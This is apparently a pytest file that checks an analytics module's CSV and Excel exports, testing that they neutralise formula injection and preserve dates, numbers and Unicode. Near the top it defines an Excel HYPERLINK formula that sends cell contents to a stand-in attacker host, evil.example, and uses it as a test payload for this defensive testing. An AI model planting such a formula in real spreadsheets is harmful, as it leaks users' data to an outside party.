"""Exports are safe to open in Excel (security.md invariant 6) and read back as written."""
from __future__ import annotations

import csv
import io
import xml.etree.ElementTree as ET
import zipfile
from datetime import date, datetime

import openpyxl
import pandas as pd
import pytest

from analytics.exports import neutralise, to_csv_bytes, to_xlsx_bytes

HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&A1,"Click")'
RTL = "مدرسة الأمل"          # Arabic, right-to-left
EMOJI = "Zoë 😀 £12.50"      # emoji, accent and pound sign


@pytest.mark.parametrize("value, expected", [
    (HYPERLINK, "'" + HYPERLINK),
    ("+44 20 7946 0000", "'+44 20 7946 0000"),
    ("-5", "'-5"),                    # text that looks like a negative number: neutralised
    ("@SUM(A1:A9)", "'@SUM(A1:A9)"),
    ("\tcmd", "'\tcmd"),
    ("\r=1+1", "'\r=1+1"),
    ("\n=1+1", "'\n=1+1"),
    ("Oak PRU", "Oak PRU"),
    ("a=b", "a=b"),                   # only the first character matters
    ("", ""),
    (-5, -5),                         # numbers are never touched
    (-2.5, -2.5),
    (None, None),
    (True, True),
    (date(2025, 3, 14), date(2025, 3, 14)),
])
def test_neutralise(value, expected):
    assert neutralise(value) == expected


def _frame() -> pd.DataFrame:
    return pd.DataFrame({
        "provider": [HYPERLINK, "-5", EMOJI, RTL, None],
        "change": [-5, 3, 0, -1, 2],                 # integers, some negative
        "rate": [0.25, None, 1.0, 0.5, 0.125],
        "start": [date(2025, 3, 14), date(2024, 9, 2), None, date(2025, 1, 6), date(2025, 2, 3)],
    })


def _read_csv(data: bytes) -> list[list[str]]:
    assert data.startswith(b"\xef\xbb\xbf")          # BOM so Excel takes it as UTF-8
    return list(csv.reader(io.StringIO(data.decode("utf-8-sig"), newline="")))


def test_csv_round_trip():
    rows = _read_csv(to_csv_bytes(_frame()))
    assert rows[0] == ["provider", "change", "rate", "start"]
    assert rows[1] == ["'" + HYPERLINK, "-5", "0.25", "2025-03-14"]   # number -5 stays -5
    assert rows[2] == ["'-5", "3", "", "2024-09-02"]                   # text "-5" neutralised
    assert rows[3] == [EMOJI, "0", "1.0", ""]
    assert rows[4] == [RTL, "-1", "0.5", "2025-01-06"]
    assert rows[5] == ["", "2", "0.125", "2025-02-03"]
    assert len(rows) == 6


def test_csv_uses_crlf_and_quotes_embedded_newlines():
    df = pd.DataFrame({"note": ["line one\nline two"], "n": [1]})
    data = to_csv_bytes(df)
    assert data.endswith(b"\r\n")
    assert _read_csv(data)[1] == ["line one\nline two", "1"]


def test_csv_headers_are_neutralised_and_blank_counts_stay_whole():
    df = pd.DataFrame({"=cmd": [1.0, None, 3.0]})
    rows = _read_csv(to_csv_bytes(df))
    assert rows == [["'=cmd"], ["1"], [""], ["3"]]


def test_csv_mixed_column_with_suppression_symbol():
    df = pd.DataFrame({"pupils": [5, "c", 0, -3]}, dtype=object)
    assert [r[0] for r in _read_csv(to_csv_bytes(df))[1:]] == ["5", "c", "0", "-3"]


def _load(data: bytes):
    return openpyxl.load_workbook(io.BytesIO(data))


def test_xlsx_round_trip_single_frame():
    wb = _load(to_xlsx_bytes(_frame()))
    ws = wb["Data"]
    rows = list(ws.iter_rows(values_only=True))
    assert rows[0] == ("provider", "change", "rate", "start")
    # the text itself, no apostrophe: a string cell marked quotePrefix (see the XML test)
    assert rows[1][0] == HYPERLINK
    assert rows[2][0] == "-5"
    assert (ws["A2"].data_type, ws["A2"].quotePrefix) == ("s", True)
    assert (ws["A3"].data_type, ws["A3"].quotePrefix) == ("s", True)
    assert not ws["A4"].quotePrefix                  # ordinary text is not marked
    assert rows[3][0] == EMOJI
    assert rows[4][0] == RTL
    assert rows[5][0] is None
    assert [r[1] for r in rows[1:]] == [-5, 3, 0, -1, 2]
    assert rows[2][2] is None and rows[1][2] == 0.25
    # no cell was written as a formula
    assert all(c.data_type != "f" for row in ws.iter_rows() for c in row)


def _sheet_xml(data: bytes) -> tuple[ET.Element, list[str]]:
    """The first sheet's XML and, per cellXfs index, its quotePrefix attribute."""
    with zipfile.ZipFile(io.BytesIO(data)) as z:
        sheet = ET.fromstring(z.read("xl/worksheets/sheet1.xml"))
        styles = ET.fromstring(z.read("xl/styles.xml"))
    xfs = styles.find(f"{{{NS}}}cellXfs").findall(f"{{{NS}}}xf")
    return sheet, [xf.get("quotePrefix", "0") for xf in xfs]


NS = "http://schemas.openxmlformats.org/spreadsheetml/2006/main"


def test_xlsx_text_excel_would_run_is_a_string_cell_with_quote_prefix():
    # security.md invariant 6, checked on the file itself: no formula element anywhere, and
    # each dangerous text is a string cell (never evaluated) whose style says "this is text"
    df = pd.DataFrame({"=cmd": [HYPERLINK, "+44 20 7946 0000", "@SUM(A1:A9)", "\tcmd", "Oak PRU"],
                       "n": [-5, 1, 2, 3, 4]})
    sheet, quote_prefix = _sheet_xml(to_xlsx_bytes(df))
    assert list(sheet.iter(f"{{{NS}}}f")) == []
    cells = {c.get("r"): c for c in sheet.iter(f"{{{NS}}}c")}

    def text(ref):
        return "".join(t.text or "" for t in cells[ref].iter(f"{{{NS}}}t"))
    for ref, value in [("A1", "=cmd"), ("A2", HYPERLINK), ("A3", "+44 20 7946 0000"),
                       ("A4", "@SUM(A1:A9)"), ("A5", "\tcmd")]:
        assert cells[ref].get("t") in ("s", "inlineStr"), ref
        assert quote_prefix[int(cells[ref].get("s"))] == "1", ref
        assert text(ref) == value, ref                 # no apostrophe added to the text
    # ordinary text and numbers carry no quotePrefix (no "s" attribute: the default style 0)
    assert cells["A6"].get("t") == "inlineStr" and text("A6") == "Oak PRU"
    assert quote_prefix[int(cells["A6"].get("s", "0"))] == "0"
    assert cells["B2"].get("t") == "n" and cells["B2"].findtext(f"{{{NS}}}v") == "-5"


def test_xlsx_dates_are_date_cells_header_bold_widths_set():
    ws = _load(to_xlsx_bytes(_frame()))["Data"]
    start = ws["D2"]
    assert start.is_date and start.value == datetime(2025, 3, 14)
    assert start.number_format == "dd/mm/yyyy"
    assert ws["D4"].value is None                    # a missing date stays blank
    assert all(ws.cell(row=1, column=c).font.b for c in range(1, 5))
    assert not ws["A2"].font.b
    # provider column is wider than the default for its long text, and capped at 60
    assert 8 < ws.column_dimensions["A"].width <= 60
    assert ws.freeze_panes == "A2"


def test_xlsx_rates_stay_numbers_shown_as_percentages():
    # A return rate of 5 in 8 is 0.625: Excel must be able to add it up (a number), and show
    # it as the screen does (62.5%). A 'c' in a rate column stays text; other columns are as
    # they were.
    df = pd.DataFrame({"Provider": ["A", "B"], "Ended": [8, "c"], "Return rate": [5 / 8, "c"]})
    ws = _load(to_xlsx_bytes(df, percent=["Return rate"]))["Data"]
    assert ws["C2"].value == 0.625 and ws["C2"].number_format == "0.0%"
    assert ws["C3"].value == "c"
    assert ws["B2"].value == 8 and ws["B2"].number_format == "General"
    # without the argument, a fraction is written as before
    assert _load(to_xlsx_bytes(df))["Data"]["C2"].number_format == "General"


def test_xlsx_several_sheets_with_awkward_names():
    frames = {"Providers: all/any": pd.DataFrame({"n": [1]}),
              "x" * 40: pd.DataFrame({"n": [2]}),
              "providers: all/any": pd.DataFrame({"n": [3]})}   # clashes once cleaned
    wb = _load(to_xlsx_bytes(frames))
    assert wb.sheetnames == ["Providers_ all_any", "x" * 31, "providers_ all_any (2)"]
    assert [wb[name]["A2"].value for name in wb.sheetnames] == [1, 2, 3]


def test_xlsx_control_characters_and_timestamps():
    df = pd.DataFrame({"text": ["bell\x07here"],
                       "when": pd.to_datetime(["2025-03-14 09:30"]),
                       "day": pd.to_datetime(["2025-03-14"])})
    ws = _load(to_xlsx_bytes(df))["Data"]
    assert ws["A2"].value == "bell\ufffdhere"   # XML cannot hold \x07: replaced, not an error
    assert ws["B2"].value == datetime(2025, 3, 14, 9, 30)
    assert ws["C2"].is_date and ws["C2"].number_format == "dd/mm/yyyy"


def test_xlsx_empty_frame():
    wb = _load(to_xlsx_bytes(pd.DataFrame({"a": []})))
    assert list(wb["Data"].iter_rows(values_only=True)) == [("a",)]
